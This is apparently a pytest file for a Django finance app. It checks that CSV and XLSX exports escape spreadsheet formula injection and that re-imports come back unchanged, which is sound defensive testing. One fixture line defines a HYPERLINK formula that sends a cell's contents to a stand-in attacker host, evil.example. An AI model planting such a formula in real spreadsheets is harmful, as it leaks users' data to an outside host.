"""Text that a spreadsheet would run as a formula is exported as inert text, and re-imports unchanged."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from funding.models import Expense, FundingSource
from smartiberica.kernel.importing import ImportResult
from smartiberica.kernel.spreadsheet_safety import FORMULA_TRIGGERS, escape_csv_text, unescape_csv_text
from tests.funding.factories import make_expense
from tests.imports.test_admin import url
from tests.services.factories import make_client, make_invoice

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NASTY = {"E-1": LINK, "E-2": "+34 600 000 000", "E-3": "-minus", "E-4": "@SUM(A1:A9)", "E-5": "'=SUM(1)"}


def test_text_starting_with_a_formula_character_gets_an_apostrophe_in_csv() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert escape_csv_text(f"{trigger}1+1") == f"'{trigger}1+1"
    assert escape_csv_text("Acme =1") == "Acme =1"
    assert escape_csv_text("'quoted") == "'quoted"
    assert escape_csv_text(Decimal("-12.50")) == Decimal("-12.50")  # numbers stay numbers
    assert escape_csv_text(date(2024, 1, 1)) == date(2024, 1, 1)


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab1 ")), max_size=6))
def test_reading_back_an_escaped_cell_gives_the_text_written(text: str) -> None:
    assert unescape_csv_text(escape_csv_text(text)) == text


def test_an_apostrophe_before_ordinary_text_is_kept_on_import() -> None:
    assert unescape_csv_text("'t Hooft") == "'t Hooft"
    assert unescape_csv_text("'=1") == "=1"


@pytest.fixture
def nasty_expenses(imported_examples: dict[str, ImportResult]) -> None:
    for reference, supplier in NASTY.items():
        make_expense(reference=reference, supplier=supplier, description=supplier)


def test_the_staff_csv_export_writes_formulas_as_text_and_re_imports_unchanged(
    staff_client: Client, nasty_expenses: None, run: Callable[..., ImportResult]
) -> None:
    content = staff_client.post(url("expenses", "export"), {"format": "0", "resource": "0"}).getvalue()
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))}
    assert rows["E-1"]["supplier"] == "'" + LINK
    assert rows["E-2"]["description"] == "'+34 600 000 000"
    assert rows["E-3"]["supplier"] == "'-minus"
    assert rows["E-4"]["supplier"] == "'@SUM(A1:A9)"
    assert rows["E-5"]["supplier"] == "''=SUM(1)"
    assert all(not r["amount"].startswith("'") for r in rows.values())
    again = run("expenses", content)
    assert again.ok, again.error_lines()
    assert (again.created, again.updated) == (0, 0)
    assert Expense.objects.get(reference="E-5").supplier == "'=SUM(1)"


def test_negative_amounts_stay_numbers_in_the_csv_export(
    staff_client: Client, imported_examples: dict[str, ImportResult]
) -> None:
    response = staff_client.post(url("invoices", "export"), {"format": "0", "resource": "0"})
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert "-500.00" in [r["net_amount"] for r in rows]


def test_the_staff_xlsx_export_stores_formulas_as_strings_and_re_imports_unchanged(
    staff_client: Client, nasty_expenses: None, run: Callable[..., ImportResult]
) -> None:
    content = staff_client.post(url("expenses", "export"), {"format": "1", "resource": "0"}).getvalue()
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("reference")].value: row for row in sheet.iter_rows(min_row=2)}
    supplier = cells["E-1"][header.index("supplier")]
    assert supplier.value == LINK and supplier.data_type == "s"
    assert all(row[header.index("amount")].data_type == "n" for row in cells.values())
    again = run("expenses", content)
    assert again.ok, again.error_lines()
    assert (again.created, again.updated) == (0, 0)


def test_a_csv_import_removes_the_apostrophe_an_export_added(run: Callable[..., ImportResult]) -> None:
    result = run("funding-sources", "code,name,kind\nx,'=SUM(1),parent_support\ny,'t Hooft,parent_support\n")
    assert result.ok, result.error_lines()
    assert dict(FundingSource.objects.values_list("code", "name")) == {"x": "=SUM(1)", "y": "'t Hooft"}


@pytest.fixture
def nasty_client(db: None) -> None:
    make_invoice(client=make_client(name=LINK), issue_date=date(2024, 3, 1))


def test_the_board_csv_export_writes_a_formula_name_as_text(nasty_client: None, board_client: Client) -> None:
    text = board_client.get("/years/2024/export.csv").content.decode("utf-8-sig")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["section"] == "revenue_by_client"]
    assert rows and rows[0]["label"] == "'" + LINK
    assert rows[0]["value"] == "100.00"


def test_the_board_xlsx_export_stores_a_formula_name_as_a_string(
    nasty_client: None, board_client: Client
) -> None:
    workbook = load_workbook(io.BytesIO(board_client.get("/years/2024/export.xlsx").content))
    named = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value == LINK]
    assert named and all(cell.data_type == "s" for cell in named)
